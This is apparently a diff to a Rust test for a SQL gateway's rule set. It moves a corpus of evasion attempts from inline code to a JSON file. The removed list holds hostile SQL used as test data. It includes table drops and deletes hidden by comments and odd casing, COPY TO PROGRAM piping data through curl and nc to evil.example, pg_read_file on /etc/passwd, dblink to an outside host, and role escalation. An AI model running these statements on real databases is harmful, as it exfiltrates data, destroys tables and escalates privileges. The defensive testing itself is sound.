@@ -22,91 +22,11 @@ fn ci_rules() -> RuleSet {
     RuleSet::new("ci", &config).unwrap()
 }
 
-const EVASIONS: &[&str] = &[
-    "DROP TABLE customers",
-    "drop table customers",
-    "DrOp TaBlE \"customers\"",
-    "/* harmless */ DROP /* really */ TABLE customers",
-    "-- a comment\nDROP TABLE customers",
-    "/* nested /* comment */ still */ drop table customers",
-    "select 1; drop table customers",
-    "select 1;drop table customers;select 2",
-    "select * from customers where id = 1; delete from orders",
-    "TRUNCATE customers",
-    "truncate table only customers cascade",
-    "DELETE FROM customers",
-    "delete from customers where true",
-    "delete from customers where 1=1",
-    "DELETE FROM customers WHERE 'a' = 'a'",
-    "UPDATE customers SET email = 'x'",
-    "update customers set email = 'x' where 1 = 1",
-    "WITH gone AS (DELETE FROM customers RETURNING *) SELECT count(*) FROM gone",
-    "with x as (update customers set email = 'x' where id = 1 returning id) select * from x",
-    "with x as (insert into orders (customer_id, total_cents, status) values (1, 1, 'x') returning id) select 1",
-    "with a as (with b as (delete from customers where id > 0 returning 1) select * from b) select * from a",
-    "COPY customers TO PROGRAM 'curl -d @- http://evil.example'",
-    "copy (select * from customers) to program 'nc evil.example 1234'",
-    "COPY customers FROM '/etc/passwd'",
-    "DO $$ BEGIN EXECUTE 'DROP TABLE customers'; END $$",
-    "do language plpgsql $x$ begin execute format('drop table %I', 'customers'); end $x$",
-    "SELECT pg_read_file('/etc/passwd')",
-    "select PG_READ_FILE('/etc/passwd')",
-    "select pg_catalog.pg_read_file('/etc/passwd')",
-    "select \"pg_read_file\"('/etc/passwd')",
-    "select U&\"\\0070g_read_file\"('/etc/passwd')",
-    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
-    "select * from (values (pg_sleep(10))) v",
-    "select (select pg_read_file('/etc/passwd'))",
-    "select * from customers order by pg_read_file('/etc/hostname')",
-    "select count(*) from customers group by pg_read_file('/etc/hostname')",
-    "select distinct on (pg_sleep(1)) * from customers",
-    "select rank() over (order by pg_sleep(1)) from customers",
-    "select count(*) filter (where pg_sleep(1) is null) from customers",
-    "select case when id > 0 then pg_read_file('/etc/passwd') end from customers",
-    "select array[pg_read_file('/etc/passwd')]",
-    "select row(pg_sleep(1))",
-    "select pg_read_file('/etc/passwd')::text",
-    "select * from customers c, lateral pg_ls_dir('/') d",
-    "select * from customers where id in (select pg_sleep(1)::int)",
-    "insert into orders (customer_id, total_cents, status) values (1, 1, pg_read_file('/etc/passwd'))",
-    "update orders set status = pg_read_file('/etc/passwd') where id = 1",
-    "delete from orders where id = 1 and pg_sleep(1) is not null",
-    "select * from customers join orders on pg_sleep(1) is null",
-    "select * from customers limit (select length(pg_read_file('/etc/hostname')))",
-    "insert into orders select * from orders where id = 1 returning pg_read_file('/etc/passwd')",
-    "select set_config('role', 'postgres', false)",
-    "select lo_import('/etc/passwd')",
-    "select * from dblink('host=evil.example', 'select 1') as t(x int)",
-    "select my_schema.do_something()",
-    "select evil()",
-    "CALL do_evil()",
-    "EXPLAIN ANALYZE DELETE FROM customers WHERE id = 1",
-    "explain (analyze, format json) update customers set email = 'x' where id = 1",
-    "SELECT * INTO stolen FROM customers",
-    "PREPARE p AS DELETE FROM customers WHERE id = 1",
-    "EXECUTE p",
-    "prepare q(int) as select pg_read_file('/etc/passwd')",
-    "SET ROLE postgres",
-    "set session authorization postgres",
-    "SET LOCAL ROLE postgres",
-    "ALTER SYSTEM SET log_statement = 'none'",
-    "CREATE ROLE evil SUPERUSER",
-    "GRANT ALL ON customers TO public",
-    "REVOKE SELECT ON customers FROM app",
-    "ALTER ROLE app SUPERUSER",
-    "CREATE TABLE x (id int)",
-    "create temp table t as select * from customers",
-    "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'",
-    "ALTER TABLE customers DROP COLUMN email",
-    "COMMENT ON TABLE customers IS 'x'",
-    "set standard_conforming_strings = off",
-    "LOAD '/tmp/evil.so'",
-    "VACUUM FULL customers",
-    "LOCK TABLE customers IN ACCESS EXCLUSIVE MODE",
-    "DROP\u{a0}TABLE customers",
-    "SELEC * FROM customers",
-    "select 'unterminated",
-];
+/// Attempts to get a risky statement past the rules, shared with the
+/// end-to-end test that sends each through the gateway.
+fn evasions() -> Vec<String> {
+    serde_json::from_str(include_str!("data/evasions.json")).expect("the evasion corpus is a JSON list of strings")
+}
 
 const ORDINARY: &[&str] = &[
     "select * from customers limit 5",
@@ -133,7 +53,7 @@ const ORDINARY: &[&str] = &[
 fn no_evasion_gets_past_the_rules() {
     let rules = ci_rules();
     let mut bypasses = Vec::new();
-    for sql in EVASIONS {
+    for sql in &evasions() {
         let classified = classify(sql);
         let verdict = rules.decide(&Classification::from(classified.clone()));
         let classes: Vec<&str> = classified.iter().flat_map(|c| c.classes.iter().map(|c| c.as_str())).collect();
@@ -144,10 +64,10 @@ fn no_evasion_gets_past_the_rules() {
         };
         println!("{shown:<36} {:<48} {}", classes.join(","), sql.replace('\n', "\\n"));
         if verdict == Verdict::Allow {
-            bypasses.push(*sql);
+            bypasses.push(sql.clone());
         }
     }
-    assert!(EVASIONS.len() >= 40);
+    assert!(evasions().len() >= 40);
     assert!(bypasses.is_empty(), "{} bypasses: {bypasses:#?}", bypasses.len());
 }
 
